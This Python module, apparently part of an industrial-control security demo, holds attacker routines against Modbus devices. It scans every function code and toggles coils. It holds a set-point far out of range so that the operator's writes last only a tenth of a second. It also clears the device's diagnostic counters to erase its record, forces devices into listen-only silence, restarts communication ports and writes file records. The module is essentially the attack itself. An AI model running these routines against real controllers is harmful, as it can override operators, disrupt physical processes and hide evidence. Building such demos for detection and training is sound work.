"""What the attackers of the demo do to Modbus devices: hold a set-point, try every function, stop a device."""

from __future__ import annotations

import asyncio

from pymodbus.client import AsyncModbusTcpClient
from pymodbus.pdu.file_message import FileRecord

from compose.plant import modbus_master as master

SETPOINT = 100
_WRITING = (5, 6, 8, 15, 16, 20, 21, 22, 23)
"""Functions the scan leaves out, because some device would do them: writes, diagnostics, files."""
SCANNED = tuple(code for code in range(128) if code not in _WRITING)
SCANNED_DEVICES = (("plc1", 1), ("gw", 1), ("gw", 2), ("gw", 3))


async def scan_all_functions() -> None:
    """Send each function code with four zero bytes to every unit; connects again where a server hangs up."""
    for server, unit in SCANNED_DEVICES:
        left = list(SCANNED)
        while left:
            async with master.BareMaster(server) as bare:
                while left and await bare.request(bytes([left.pop(0)]) + b"\0\0\0\1", unit, timeout=0.1):
                    await asyncio.sleep(0.005)


async def write_once(client: AsyncModbusTcpClient) -> None:
    """Write one set-point inside its range."""
    await client.write_register(SETPOINT, 2400)


async def toggle(client: AsyncModbusTcpClient) -> None:
    """Switch one coil and move the set-point, both again and again."""
    for number in range(16):
        await client.write_coil(2, number % 2 == 0)
        await client.write_register(SETPOINT, 1500 + 50 * number)
        await asyncio.sleep(0.15)


async def hold_setpoint(client: AsyncModbusTcpClient) -> None:
    """Write the set-point ten times a second for 25 s, each time a little higher, up to far outside its range: what the
    operator writes in between holds for a tenth of a second."""
    for number in range(250):
        await client.write_register(SETPOINT, 2400 + 6 * number)
        await asyncio.sleep(0.1)
    await client.write_register(SETPOINT, 2000)


async def clear_counters(client: AsyncModbusTcpClient) -> None:
    """Wipe the device's own record of what happened."""
    await client.diag_clear_counters()
    await client.diag_clear_overrun_counter()


async def restart(client: AsyncModbusTcpClient) -> None:
    """Restart the communication port."""
    await client.diag_restart_communication(True)


async def force_listen_only(client: AsyncModbusTcpClient) -> None:
    """Silence the device for eleven seconds."""
    await client.diag_force_listen_only(no_response_expected=True)
    await asyncio.sleep(11)
    await client.diag_restart_communication(False, no_response_expected=True)


async def write_file(client: AsyncModbusTcpClient) -> None:
    """Write three registers of a file record."""
    await client.write_file_record([FileRecord(4, 7, b"\x06\xaf\x04\xbe\x10\x0d")])
